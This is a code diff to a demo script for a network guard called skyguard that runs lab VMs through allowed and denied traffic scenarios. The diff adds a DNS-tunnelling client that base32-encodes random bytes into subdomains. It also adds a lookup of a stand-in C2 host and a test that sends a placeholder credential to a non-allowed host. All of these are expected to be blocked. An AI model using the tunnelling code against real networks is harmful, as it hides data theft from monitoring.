@@ -23,8 +23,9 @@ from rich.table import Table
 
 from skyguard import config
 from skyguard.errors import SkyguardError
+from skyguard.lab.addressing import addresses_for_name
 
-# A tiny client run inside a lab VM: connect (tcp) or send-and-await-echo (udp) or ping; prints
+# A tiny client run inside a lab VM: connect (tcp) or send-and-await-echo (udp); prints
 # "ok" or the error. Exit status 0 means the traffic got through.
 _PROBE = r"""
 import socket, sys
@@ -36,12 +37,31 @@ s = socket.socket(family, kind); s.settimeout(1.5)
 try:
     if src: s.bind((src, 0))
     if proto == "tcp":
-        s.connect((host, port)); s.sendall(b"demo"); s.recv(16)
+        s.connect((host, port))  # the handshake crossed skyguard both ways
     else:
         s.sendto(b"demo", (host, port)); s.recvfrom(16)
     print("ok")
 except OSError as e:
     print(type(e).__name__); sys.exit(1)
+"""
+
+# A DNS client run inside a lab VM (the VM's resolver is the lab's 192.0.2.53; skyguard answers
+# whatever address is asked). Exit 0 if every query got an answer with records.
+_DNS = r"""
+import base64, os, sys
+from dnslib import DNSRecord
+names = sys.argv[1:]
+if names[0] == "--tunnel":  # exfiltrate random bytes, base32-encoded, as subdomains
+    names = [base64.b32encode(os.urandom(20)).decode().rstrip("=").lower() + "." + names[1]
+             for _ in range(40)]
+for name in names:
+    try:
+        reply = DNSRecord.parse(DNSRecord.question(name).send("192.0.2.53", 53, timeout=2))
+    except Exception as e:
+        print(type(e).__name__); sys.exit(1)
+    if reply.header.rcode != 0 or not reply.rr:
+        print("rcode", reply.header.rcode); sys.exit(1)
+print("ok")
 """
 
 # TCP echo servers a scenario needs inside lab VMs: (vm, port).
@@ -68,10 +88,25 @@ class Step:
     why: str = ""  # filled in from what the datapath reports
     got: str = ""
     setup: list[list[str]] = field(default_factory=list)  # commands run in the VM first
+    dns: bool = False  # the decision is the DNS proxy's (read from the log), not the datapath's
+    credential: bool = False  # the decision is the credential proxy's (read from the log)
 
 
 def probe(proto: str, host: str, port: int, src: str | None = None) -> list[str]:
     return ["python3", "-c", _PROBE, proto, host, str(port)] + ([src] if src else [])
+
+
+PLACEHOLDER = "sg-placeholder-github-7f3a"  # policies/keysystems.yaml: all the VM ever holds
+
+
+def curl_with_placeholder(host: str) -> list[str]:
+    # {ca} is filled in by Demo: the skyguard CA the VM trusts for intercepted HTTPS.
+    return ["curl", "-sS", "-m", "5", "--fail", "--cacert", "{ca}", "-H",
+            f"Authorization: Bearer {PLACEHOLDER}", f"https://{host}/"]
+
+
+def dns_query(*names: str) -> list[str]:
+    return [sys.executable, "-c", _DNS, *names]
 
 
 def scenario() -> list[Step]:
@@ -90,15 +125,50 @@ def scenario() -> list[Step]:
              probe("tcp", "169.254.169.254", 80), "denied"),
         Step("sandboxed agent posts to an unlisted internet host (exfiltration)", "agent1",
              probe("tcp", "203.0.113.66", 443), "denied"),
+        Step("SDN controller resolves api.github.test (allowed by name)", "sdnctl1",
+             dns_query("api.github.test"), "allowed", dns=True),
+        Step("SDN controller calls the learned address over HTTPS", "sdnctl1",
+             probe("tcp", str(addresses_for_name("api.github.test")[0]), 443), "allowed"),
+        Step("sandboxed agent resolves a name no rule gives it", "agent1",
+             dns_query("c2.evil.test"), "denied", dns=True),
+        Step("sandboxed agent tunnels data out in DNS names under an allowed domain", "agent1",
+             dns_query("--tunnel", "files.pythonhosted.test"), "denied", dns=True),
+        Step("SDN controller calls GitHub with its placeholder token (credential swap)", "sdnctl1",
+             curl_with_placeholder("api.github.test"), "allowed", credential=True),
+        Step("the placeholder sent to another allowed host (exfiltration attempt)", "sdnctl1",
+             curl_with_placeholder("deb.debian.test"), "denied", credential=True),
         Step("sandboxed agent spoofs the directory's address", "agent1",
              probe("udp", "192.0.2.10", 514, src="10.10.2.2"), "denied",
              setup=[["ip", "addr", "add", "10.10.2.2/32", "dev", "eth0"]]),
     ]
 
 
+def _self_signed_bundle(name: str) -> bytes:
+    """A certificate and key (PEM, certificate first) for a VM service whose TLS skyguard terminates."""
+    import datetime
+
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import ec
+    from cryptography.x509.oid import NameOID
+
+    key = ec.generate_private_key(ec.SECP256R1())
+    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
+    now = datetime.datetime.now(datetime.timezone.utc)
+    cert = (x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
+            .serial_number(x509.random_serial_number()).not_valid_before(now)
+            .not_valid_after(now + datetime.timedelta(days=1))
+            .add_extension(x509.SubjectAlternativeName([x509.DNSName(name)]), critical=False)
+            .sign(key, hashes.SHA256()))
+    return (cert.public_bytes(serialization.Encoding.PEM)
+            + key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                                serialization.NoEncryption()))
+
+
 class Demo:
     def __init__(self, console: Console | None = None, keep: bool = False):
-        self.console = console or Console(stderr=False)
+        # Not a terminal (CI, a pipe): wide enough that reasons stay on one line.
+        self.console = console or Console(width=None if sys.stdout.isatty() else 160)
         self.keep = keep
         self.workdir = Path(tempfile.mkdtemp(prefix="skyguard-demo-"))
         self.env = dict(os.environ,
@@ -109,6 +179,9 @@ class Demo:
         self.lab = None
         self.daemon = None
         self.helpers: list[subprocess.Popen] = []
+        self.log_mark = 0  # log size before the current step
+        self.ca_file = self.workdir / "skyguard-ca.pem"  # what the VMs trust for intercepted HTTPS
+        self.real_token = ""
 
     # ---- helpers --------------------------------------------------------------------------
     def say(self, text: str) -> None:
@@ -155,11 +228,29 @@ class Demo:
         finally:
             self.teardown()
 
+    def provision_secrets(self) -> None:
+        """What an operator does once: the real GitHub token and sdnctl1's TLS key go into
+        skyguard's sealed store; the VMs never see either."""
+        import secrets as random
+
+        self.real_token = "ghp_" + random.token_hex(16)
+        stored = self.skyguard("secret", "set", "github", input=self.real_token)
+        if stored.returncode != 0:
+            raise SkyguardError(f"storing the demo secret failed: {stored.stderr.strip()}")
+        bundle = self.workdir / "sdnctl1.pem"
+        bundle.write_bytes(_self_signed_bundle("sdnctl1.test"))
+        stored = self.skyguard("secret", "set", "sdnctl1", "--file", str(bundle))
+        bundle.unlink()
+        if stored.returncode != 0:
+            raise SkyguardError(f"storing the demo TLS key failed: {stored.stderr.strip()}")
+        self.say("   stored the real GitHub token and sdnctl1's TLS key in skyguard's sealed store")
+
     def start_daemon(self) -> None:
+        self.provision_secrets()
         log_path = self.workdir / "daemon.log"
         self.daemon = self.lab.popen(
             "host", [sys.executable, "-m", "skyguard.cli.main", "up", "--policy",
-                     str(config.DEFAULT_POLICY), "--metrics", "off"],
+                     str(config.DEFAULT_POLICY), "--metrics", "off", "--upstream-ca", str(self.lab.ca_cert)],
             env=self.env, stdout=open(log_path, "w"), stderr=subprocess.STDOUT)
         deadline = time.monotonic() + 120
         while time.monotonic() < deadline:
@@ -169,6 +260,8 @@ class Demo:
             if status.returncode == 0:
                 attached = json.loads(status.stdout)["interfaces"]
                 self.say(f"   daemon up; programs attached to {len(attached)} VM interfaces")
+                ca = self.skyguard("ca", "export")
+                self.ca_file.write_text(ca.stdout)
                 return
             time.sleep(0.5)
         raise SkyguardError(f"the daemon did not answer within 120 s; its log: {log_path}")
@@ -182,15 +275,26 @@ class Demo:
             for cmd in step.setup:
                 self.lab.exec(step.vm, cmd, capture_output=True)
             before = self.control("status")["counters"]
-            done = self.lab.exec(step.vm, step.argv, capture_output=True, text=True)
+            self.log_mark = self.log_size()
+            argv = [str(self.ca_file) if a == "{ca}" else a for a in step.argv]
+            done = self.lab.exec(step.vm, argv, capture_output=True, text=True)
             step.got = "allowed" if done.returncode == 0 else "denied"
+            if step.credential and self.real_token in done.stdout + done.stderr:
+                step.got = "LEAKED"  # the real secret must never come back to a VM
             step.why = self.explain(before, self.control("status")["counters"], step)
             mark = "[green]" if step.got == step.expect else "[bold red]"
             self.say(f"   {mark}{step.got:8}[/] {step.vm:8} {step.title}  [dim]({step.why})[/]")
         return steps
 
     def explain(self, before: dict, after: dict, step: Step) -> str:
-        """Why, as the datapath reports it: new drop reasons, or the rule of the flow's conntrack entry."""
+        """Why, as skyguard reports it: the DNS proxy's last logged decision for the VM, new drop
+        reasons in the datapath's counters, or the rule of the flow's conntrack entry."""
+        if step.dns:
+            return self.logged(step.vm, "dns", lambda rs: f"DNS {rs[-1]['verdict']}: {rs[-1]['reason']}")
+        if step.credential:
+            return self.logged(step.vm, "credential", lambda rs: "credential proxy: " + ", ".join(
+                r["result"] if r["result"] in ("swapped", "scrubbed") else f"{r['result']} ({r.get('reason')})"
+                for r in rs) + self.upstream_saw_secret())
         def drops(c):
             return {(d["zone"], d["direction"], d["reason"]): d["packets"] for d in c["drops"]}
         b, a = drops(before), drops(after)
@@ -200,6 +304,33 @@ class Demo:
         host, port = step.argv[-2], int(step.argv[-1])
         rules = {f["rule"] for f in self.control("conntrack")["flows"] if f["dst"] == host and f["dport"] == port}
         return "rule " + ", ".join(sorted(rules)) if rules else "allowed"
+
+    def upstream_saw_secret(self) -> str:
+        """Did the lab's echo server (standing in for GitHub) receive the real token?"""
+        seen = self.real_token in self.lab.requests_log.read_text() if self.lab.requests_log.exists() else False
+        return "; api.github.test received the real token" if seen else ""
+
+    def logged(self, workload: str, kind: str, describe) -> str:
+        """Describe the decisions of `kind` logged for `workload` during this step. They are
+        logged in the next group commit, not before the answer: poll briefly."""
+        from skyguard.tlog import LogReader
+        from skyguard.tlog.entries import decode
+
+        deadline = time.monotonic() + 3
+        while True:
+            reader = LogReader(Path(self.env["SKYGUARD_STATE_DIR"]) / "log")
+            records = [r for r in map(decode, map(reader.entry, range(self.log_mark, reader.size)))
+                       if r.get("type") == kind and r.get("workload") == workload]
+            if records:
+                return describe(records)
+            if time.monotonic() > deadline:
+                return f"no {kind} decision logged"
+            time.sleep(0.1)
+
+    def log_size(self) -> int:
+        from skyguard.tlog import LogReader
+
+        return LogReader(Path(self.env["SKYGUARD_STATE_DIR"]) / "log").size
 
     def show(self, steps: list[Step]) -> None:
         table = Table(title="What skyguard decided")
